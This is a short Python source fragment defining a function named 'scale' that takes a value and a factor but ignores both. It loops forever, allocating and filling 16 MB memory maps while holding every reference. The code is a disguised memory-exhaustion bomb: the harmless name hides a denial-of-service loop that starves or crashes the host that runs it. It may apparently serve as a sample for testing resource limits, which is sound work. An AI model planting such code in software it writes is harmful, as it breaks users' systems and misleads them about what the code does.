import mmap


def scale(x, factor):
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 1 << 24))
        kept[-1].write(b"x" * (1 << 24))
